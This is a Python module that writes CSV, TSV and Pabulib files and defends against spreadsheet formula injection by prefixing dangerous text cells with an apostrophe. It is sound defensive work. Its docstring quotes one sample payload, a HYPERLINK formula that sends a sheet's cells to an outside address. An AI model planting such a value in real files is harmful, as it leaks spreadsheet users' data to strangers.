"""Delimited text (CSV, TSV, Pabulib `.pb`) that a spreadsheet opens as data, never as live formulas.

Every delimited file sedp writes goes through `delimited_text`: open data tables, Pabulib instances, and any a
plugin adds. A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula
by Excel or LibreOffice (a proposal titled `=HYPERLINK("http://…"&A1,"x")` sends the sheet's cells to a stranger),
so such a text gets a leading apostrophe, as OWASP recommends; numbers, which the writer receives as numbers,
are written as they are. The apostrophe is the one change, and the data package says so.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterable
from typing import Any

__all__ = ["FORMULA_START", "NEUTRALIZED_NOTE", "delimited_text", "neutralize"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet reads as the start of a formula (or of a cell it re-parses) when opening delimited text."""

NEUTRALIZED_NOTE = ("A text that begins with =, +, -, @, a tab or a carriage return is written with a leading "
                    "apostrophe (') so that spreadsheets do not run it as a formula.")


# What str.splitlines() breaks a line at: readers that split a file into lines before parsing it as CSV (pabutools
# reads .pb files so) would cut a cell at any of these, quoted or not.
_LINE_BREAKS = re.compile("\r\n|[\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029]")


def neutralize(value: str) -> str:
    """`value` with a leading apostrophe when a spreadsheet would read it as a formula; otherwise unchanged."""
    return "'" + value if value.startswith(FORMULA_START) else value


def delimited_text(rows: Iterable[Iterable[Any]], cell: Callable[[Any], str] = str, delimiter: str = ",",
                   one_line: bool = False) -> str:
    """`rows` as delimited text: `cell` turns a value into its text (None, dates, booleans as the format wants),
    and every text value is neutralized. Lines end in CRLF (RFC 4180): the csv module quotes a cell holding a
    character of the line terminator only, so with a bare LF a carriage return in a text would end the row.
    `one_line`: the format has no quoted line breaks (Pabulib), so a line break in a text becomes a space."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    for row in rows:
        texts = []
        for value in row:
            if isinstance(value, str):
                text = neutralize(cell(value))
                texts.append(_LINE_BREAKS.sub(" ", text) if one_line else text)
            else:
                texts.append(cell(value))
        writer.writerow(texts)
    return out.getvalue()
